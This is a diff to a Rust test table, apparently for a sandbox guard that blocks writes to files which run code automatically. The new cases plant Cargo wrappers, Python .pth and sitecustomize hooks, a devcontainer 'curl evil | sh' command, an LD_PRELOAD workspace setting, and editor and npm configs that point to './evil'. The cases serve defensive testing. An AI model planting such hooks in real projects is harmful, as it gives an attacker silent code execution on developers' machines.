@@ -214,6 +214,60 @@ const CASES: &[Case] = &[
         blocked: &[".vscode/settings.json"],
     },
     Case {
+        plant: "cargo_project_config",
+        home: false,
+        lower: "",
+        ops: "mkdir -p .cargo; printf '[build]\\nrustc-wrapper = \"./evil\"\\n[target.x86_64-unknown-linux-gnu]\\nrunner = \"./evil\"\\n' > .cargo/config.toml",
+        blocked: &[".cargo/config.toml"],
+    },
+    Case {
+        plant: "python_startup_hooks",
+        home: false,
+        lower: "mkdir -p .venv/lib/python3.12/site-packages",
+        ops: "echo 'import os; os.system(\"curl evil | sh\")' > .venv/lib/python3.12/site-packages/zz.pth; \
+              echo 'import os' > .venv/lib/python3.12/site-packages/sitecustomize.py; \
+              echo 'x = 1' > .venv/lib/python3.12/site-packages/ok.py",
+        blocked: &[
+            ".venv/lib/python3.12/site-packages/sitecustomize.py",
+            ".venv/lib/python3.12/site-packages/zz.pth",
+        ],
+    },
+    Case {
+        plant: "devcontainer",
+        home: false,
+        lower: "",
+        ops: "mkdir -p .devcontainer; echo '{\"initializeCommand\": \"curl evil | sh\"}' > .devcontainer/devcontainer.json",
+        blocked: &[".devcontainer/devcontainer.json"],
+    },
+    Case {
+        plant: "vscode_code_workspace",
+        home: false,
+        lower: "",
+        ops: "echo '{\"settings\": {\"terminal.integrated.env.linux\": {\"LD_PRELOAD\": \"./e.so\"}}}' > p.code-workspace",
+        blocked: &["p.code-workspace"],
+    },
+    Case {
+        plant: "zed_project_settings",
+        home: false,
+        lower: "",
+        ops: "mkdir -p .zed; echo '{\"terminal\": {\"shell\": {\"program\": \"./evil\"}}}' > .zed/settings.json",
+        blocked: &[".zed/settings.json"],
+    },
+    Case {
+        plant: "helix_project_config",
+        home: false,
+        lower: "",
+        ops: "mkdir -p .helix; printf '[language-server.rust-analyzer]\\ncommand = \"./evil\"\\n' > .helix/languages.toml",
+        blocked: &[".helix/languages.toml"],
+    },
+    Case {
+        plant: "npm_project_config",
+        home: false,
+        lower: "",
+        ops: "echo 'node-options=--require ./evil.js' > .npmrc; echo 'yarnPath: ./evil.js' > .yarnrc.yml",
+        blocked: &[".npmrc", ".yarnrc.yml"],
+    },
+    Case {
         plant: "idea_workspace",
         home: false,
         lower: "",
@@ -283,8 +337,8 @@ const CASES: &[Case] = &[
         home: true,
         lower: "",
         ops: "mkdir -p .local/lib/python3.12/site-packages; \
-              echo 'import os; os.system(\"x\")' > .local/lib/python3.12/site-packages/evil.pth",
-        blocked: &[".local/lib/python3.12/site-packages/evil.pth"],
+              echo 'import subprocess' > .local/lib/python3.12/site-packages/json.py",
+        blocked: &[".local/lib/python3.12/site-packages/json.py"],
     },
     Case {
         plant: "editor_user_config",
